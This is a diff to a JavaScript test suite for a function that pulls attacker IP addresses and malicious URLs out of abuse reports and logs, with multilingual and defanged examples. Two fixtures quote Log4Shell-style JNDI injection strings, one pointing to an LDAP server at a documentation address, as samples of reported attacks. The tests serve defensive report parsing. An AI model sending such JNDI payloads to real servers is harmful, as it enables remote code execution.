@@ -39,6 +39,11 @@ describe('telling whose an address is', () => {
     ['what is affected by somebody else', 'Attacker address: 192.0.2.7\nAffected system: 203.0.113.5'],
     ['Greek', 'Σύνδεση από τη διεύθυνση 192.0.2.7 προς διακομιστές (προορισμός 203.0.113.5)'],
     ['Russian', 'Атака с 192.0.2.7 на информационный ресурс www.example.com (203.0.113.5)'],
+    ['whose network it is', '192.0.2.7 scans us.\n203.0.113.0/24 is our campus network.'],
+    [
+      'the request that somebody made',
+      'GET /?x=${jndi:dns} HTTP/1.1\nHost: 203.0.113.5:80\n\nThis came from 192.0.2.7',
+    ],
     ['that it was dealt with', 'The customer of 203.0.113.5 has been suspended, but 192.0.2.7 goes on.'],
   ])('by %s', (_, text) => {
     expect(reported(text)).toEqual(['192.0.2.7']);
@@ -60,7 +65,7 @@ describe('telling whose an address is', () => {
   it('keeps the source of a request beside what the request brings along', () => {
     const log =
       'date=2026-10-11 time=23:51:07 srcip=192.0.2.7 dstip=203.0.113.5 url="/?x=${jndi:ldap://198.51.100.9:1389/a}"';
-    expect(reported(log)).toEqual(['192.0.2.7', '198.51.100.9']);
+    expect(reported(log)).toEqual(['192.0.2.7', 'ldap://198.51.100.9:1389/a', '198.51.100.9']);
   });
 
   it('takes an affected system for what is reported where nobody acted', () => {
@@ -109,6 +114,17 @@ describe('telling whose a page is', () => {
       '192.0.2.7',
       'http://www.school.example.net/a.html',
     ]);
+  });
+
+  it('takes what is called harmful right behind it, and what is disguised elsewhere', () => {
+    const text =
+      'Pages: http://a.example.org/x (compromised), b[.]example.org <http://b.example.org/y>\npayload hxxp://c.example.org/z\nOur text: http://d.example.com/';
+    expect(reported(text)).toEqual(['http://c.example.org/z', 'http://a.example.org/x', 'http://b.example.org/y']);
+  });
+
+  it('reads an address with a path as a page', () => {
+    expect(reported('panel: 192.0.2[.]7:8888/login')).toEqual(['192.0.2.7', 'http://192.0.2.7:8888/login']);
+    expect(reported('Attack from 192.0.2.7/443 and 192.0.2.8/tcp.')).toEqual(['192.0.2.7', '192.0.2.8']);
   });
 
   it('finds nothing in a mail that names no more than the front page of its writer', () => {
